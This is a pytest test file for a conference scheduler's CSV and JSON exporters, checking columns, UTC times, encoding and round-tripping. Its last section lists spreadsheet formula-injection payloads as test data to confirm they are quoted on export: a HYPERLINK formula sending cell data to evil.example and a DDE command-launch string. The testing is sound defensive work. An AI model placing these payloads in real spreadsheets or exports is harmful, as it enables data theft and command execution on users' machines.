"""The tables of a run (schedule.csv, attendance.csv, matches.csv, unscheduled.csv,
report.json) are written exactly as docs/workflow.md ("The files of a run") says, from a hand-made schedule."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest

from scheduler.export.tables import read_tables, table_frames, write_tables
from scheduler.model import (
    Attendance,
    Match,
    Matchmaking,
    Meeting,
    Schedule,
    ScheduledEvent,
    UnscheduledItem,
)
from tests.builders import KILIS, MANNHEIM, conference, participant, session

CONFERENCE = conference(
    cities=[MANNHEIM, KILIS],
    partnerships=[],
    participants=[
        participant("anna", "man", role="administration", interests={"digital": 3}),
        participant(
            "berk", "kil", role="administration", languages=("tr",), interests={"digital": 2}
        ),
        participant("cem", "kil", languages=("tr", "de"), interests={"digital": 1}),
    ],
    sessions=[
        session("s-open", kind="plenary", language="de-tr", hosts=("anna",)),
        session("s-late", language="de"),
    ],
)
MEETING = Meeting(
    id="nc-kil-man",
    kind="new_contact_meeting",
    city_a="kil",
    city_b="man",
    delegates=("anna", "berk"),
    language="de-tr",
    duration_minutes=45,
    titles={"de": "Neuer Kontakt: Kilis – Mannheim", "tr": "Yeni bağlantı: Kilis – Mannheim"},
    score=0.912345678,
    reasons={"de": "Digitalisierung", "tr": "Dijitalleşme", "en": "both focus on Digitalisation"},
)
MATCHMAKING = Matchmaking(
    meetings=(MEETING,),
    matches=(
        Match("kil", "man", "new", 0.912345678, MEETING.reasons, "nc-kil-man"),
        Match("kil", "osn", "partner", 0.5, {"en": "no shared focus"}, "pm-kil-osn"),
    ),
    impossible=(UnscheduledItem("pm-kil-osn", "partner_meeting", "Osnabrück has no delegate"),),
)
OPENING = ScheduledEvent(
    event_id="s-open",
    kind="plenary",
    theme="digital",
    titles={"de": "Eröffnung", "tr": "Açılış", "en": "Opening"},
    start=datetime(2020, 6, 3, 7, 0, tzinfo=UTC),
    end=datetime(2020, 6, 3, 8, 0, tzinfo=UTC),
    language="de-tr",
    room=1,
)
SCHEDULE = Schedule(
    events=(OPENING,),
    attendance=(
        Attendance("s-open", "anna", "host"),
        Attendance("s-open", "berk", "attendee"),
        Attendance("s-open", "cem", "attendee"),
    ),
    # as the solver assembles it: what it could not place and the meetings matchmaking
    # found impossible, by item id (the exporters show it as it is)
    unscheduled=(
        UnscheduledItem(
            "nc-kil-man", "new_contact_meeting", "the delegates have no common free time"
        ),
        *MATCHMAKING.impossible,
        UnscheduledItem("s-late", "workshop", "no free room on any weekday"),
    ),
    status="FEASIBLE",
    objective=6.0,
    bound=8.0,
    solve_seconds=12.345,
)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("tables")
    write_tables(CONFERENCE, MATCHMAKING, SCHEDULE, folder)
    return folder


def rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_schedule_csv_has_the_contract_columns_and_utc_times(written: Path) -> None:
    assert rows(written / "schedule.csv") == [
        [
            "event_id",
            "kind",
            "theme",
            "title_de",
            "title_tr",
            "start",
            "end",
            "language",
            "interpreted",
            "room",
            "attendees",
        ],
        [
            "s-open",
            "plenary",
            "digital",
            "Eröffnung",
            "Açılış",
            "2020-06-03T07:00:00Z",
            "2020-06-03T08:00:00Z",
            "de-tr",
            "true",
            "1",
            "3",
        ],
    ]


def test_times_in_another_zone_are_written_in_utc(tmp_path: Path) -> None:
    from zoneinfo import ZoneInfo

    berlin = ZoneInfo("Europe/Berlin")
    event = ScheduledEvent(
        **{**OPENING.__dict__, "start": datetime(2020, 6, 3, 9, 0, tzinfo=berlin),
           "end": datetime(2020, 6, 3, 10, 0, tzinfo=berlin), "language": "de"}
    )  # fmt: skip
    schedule = Schedule((event,), (), (), "OPTIMAL", 0, 0, 0.0)
    write_tables(CONFERENCE, MATCHMAKING, schedule, tmp_path)
    row = rows(tmp_path / "schedule.csv")[1]
    assert row[5:9] == ["2020-06-03T07:00:00Z", "2020-06-03T08:00:00Z", "de", "false"]
    assert row[10] == "0"


def test_files_are_utf8_comma_separated_with_plain_newlines(written: Path) -> None:
    raw = (written / "schedule.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" not in raw
    assert "Açılış".encode() in raw


def test_attendance_csv_lists_every_participant_with_their_role(written: Path) -> None:
    assert rows(written / "attendance.csv") == [
        ["event_id", "participant_id", "role"],
        ["s-open", "anna", "host"],
        ["s-open", "berk", "attendee"],
        ["s-open", "cem", "attendee"],
    ]


def test_matches_csv_leaves_event_id_blank_for_meetings_not_in_the_schedule(written: Path) -> None:
    assert rows(written / "matches.csv") == [
        ["city_a", "city_b", "kind", "score", "reasons", "event_id"],
        ["kil", "man", "new", "0.912346", "both focus on Digitalisation", ""],
        ["kil", "osn", "partner", "0.5", "no shared focus", ""],
    ]


def test_matches_csv_names_the_meeting_when_it_is_scheduled(tmp_path: Path) -> None:
    meeting_event = ScheduledEvent(
        event_id="nc-kil-man",
        kind="new_contact_meeting",
        theme=None,
        titles=MEETING.titles,
        start=datetime(2020, 6, 4, 8, 0, tzinfo=UTC),
        end=datetime(2020, 6, 4, 8, 45, tzinfo=UTC),
        language="de-tr",
        room=2,
    )
    schedule = Schedule(
        events=(meeting_event,),
        attendance=(
            Attendance("nc-kil-man", "anna", "delegate"),
            Attendance("nc-kil-man", "berk", "delegate"),
        ),
        unscheduled=(),
        status="OPTIMAL",
        objective=0,
        bound=0,
        solve_seconds=1.0,
    )
    write_tables(CONFERENCE, MATCHMAKING, schedule, tmp_path)
    assert rows(tmp_path / "matches.csv")[1][5] == "nc-kil-man"
    schedule_row = rows(tmp_path / "schedule.csv")[1]
    assert schedule_row[1:3] == ["new_contact_meeting", ""]  # meetings have no theme
    assert schedule_row[10] == "2"
    report = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    assert report["meetings_scheduled"] == 1
    assert report["gap"] == 0


def test_unscheduled_csv_lists_solver_and_matchmaking_items_by_id(written: Path) -> None:
    assert rows(written / "unscheduled.csv") == [
        ["item_id", "kind", "reason"],
        ["nc-kil-man", "new_contact_meeting", "the delegates have no common free time"],
        ["pm-kil-osn", "partner_meeting", "Osnabrück has no delegate"],
        ["s-late", "workshop", "no free room on any weekday"],
    ]


def test_unscheduled_csv_is_header_only_when_everything_is_placed(tmp_path: Path) -> None:
    everything = Matchmaking(meetings=(), matches=(), impossible=())
    schedule = Schedule((OPENING,), (), (), "OPTIMAL", 0, 0, 0.5)
    write_tables(CONFERENCE, everything, schedule, tmp_path)
    assert (tmp_path / "unscheduled.csv").read_text(encoding="utf-8") == "item_id,kind,reason\n"
    assert (tmp_path / "matches.csv").read_text(encoding="utf-8") == (
        "city_a,city_b,kind,score,reasons,event_id\n"
    )


def test_report_json_has_the_contract_keys_gap_and_satisfaction(written: Path) -> None:
    report = json.loads((written / "report.json").read_text(encoding="utf-8"))
    contract_keys = {
        "status",
        "objective",
        "bound",
        "gap",
        "solve_seconds",
        "satisfaction",
        "satisfaction_by_city",
        "events_scheduled",
        "meetings_scheduled",
        "violations",
    }
    assert contract_keys <= set(report)
    assert report["status"] == "FEASIBLE"
    assert report["objective"] == 6 and report["bound"] == 8
    assert report["gap"] == 0.25  # (8 - 6) / 8
    assert report["solve_seconds"] == pytest.approx(12.35)
    # wanted: anna 3 (s-open) + 3 (s-late); berk 2 (s-open; s-late is German only);
    # cem 1 + 1. Attended: anna 3, berk 2, cem 1.
    assert report["satisfaction"] == pytest.approx(6 / 10, abs=1e-6)
    assert report["satisfaction_by_city"] == {"kil": pytest.approx(3 / 4), "man": 0.5}
    assert report["worst_city"] == {"city_id": "man", "satisfaction": 0.5}
    assert report["events_scheduled"] == 1
    assert report["meetings_scheduled"] == 0
    assert report["violations"] == []
    assert report["unscheduled"] == 3


def test_dataframes_read_back_what_was_written(written: Path) -> None:
    from_files = read_tables(written)
    in_memory = table_frames(CONFERENCE, MATCHMAKING, SCHEDULE)
    for name, frame in in_memory.items():
        pd.testing.assert_frame_equal(frame, from_files[name], obj=name)
    schedule = from_files["schedule"]
    assert str(schedule["start"].dt.tz) == "UTC"
    assert schedule["interpreted"].tolist() == [True]
    assert schedule["attendees"].tolist() == [3]
    assert from_files["unscheduled"]["item_id"].tolist() == ["nc-kil-man", "pm-kil-osn", "s-late"]


# --- spreadsheet formula injection ------------------------------------------------------

# The examples, and the other starts a spreadsheet reads as a formula
HOSTILE_TITLES = {
    "s-link": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "s-cmd": "+cmd|' /C calc'!A0",
    "s-sum": "@SUM(1+1)",
    "s-minus": "-2+3",
    "s-tab": "\tTab",
    "s-quote": "'=already quoted",
    "s-blank": "  =1+1",
    "s-break": "\n=1+1",
}


def test_text_that_a_spreadsheet_would_run_is_written_with_a_quote_and_read_back(
    tmp_path: Path,
) -> None:
    from scheduler.check import check, check_written
    from scheduler.matchmaking import match
    from scheduler.review import read_outputs
    from scheduler.solve import SolveOptions, solve

    conf = conference(
        participants=[participant(f"p{i}", interests={"digital": 3}) for i in range(3)],
        sessions=[
            session(sid, titles={"de": title, "tr": title, "en": title})
            for sid, title in HOSTILE_TITLES.items()
        ],
    )
    matchmaking = match(conf)
    schedule = solve(conf, matchmaking, SolveOptions(time_limit=5, deterministic=True))
    assert check(conf, matchmaking, schedule) == []
    assert {e.event_id for e in schedule.events} == set(HOSTILE_TITLES)
    write_tables(conf, matchmaking, schedule, tmp_path)

    header, *lines = rows(tmp_path / "schedule.csv")
    written = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
    for sid, title in HOSTILE_TITLES.items():
        assert written[sid]["title_de"] == "'" + title, sid  # a spreadsheet shows it as text
        assert written[sid]["title_tr"] == "'" + title, sid
        assert written[sid]["room"] == str(schedule.events_by_id[sid].room)  # numbers as numbers
    # `scheduler check` reads the original titles back (it compares them with the plan) ...
    assert check_written(conf, matchmaking, tmp_path) == []
    # ... and so do read_tables and the notebooks' read_outputs
    titles = read_tables(tmp_path)["schedule"].set_index("event_id")["title_de"].to_dict()
    assert titles == HOSTILE_TITLES
    in_memory = table_frames(conf, matchmaking, schedule)
    for name, frame in read_outputs(tmp_path).items():
        pd.testing.assert_frame_equal(frame, in_memory[name], obj=name)


def test_numbers_stay_numbers_and_text_columns_are_guarded(tmp_path: Path) -> None:
    from scheduler.export.tables import MATCHES_COLUMNS, read_csv, write_csv

    row = {"city_a": "@a", "city_b": "=b", "kind": "new", "score": "-0.25"}
    row |= {"reasons": "-0.25", "event_id": "+1"}
    write_csv(tmp_path / "matches.csv", MATCHES_COLUMNS, [row])
    assert rows(tmp_path / "matches.csv")[1] == ["'@a", "'=b", "new", "-0.25", "'-0.25", "'+1"]
    assert read_csv(tmp_path / "matches.csv").iloc[0].to_dict() == row
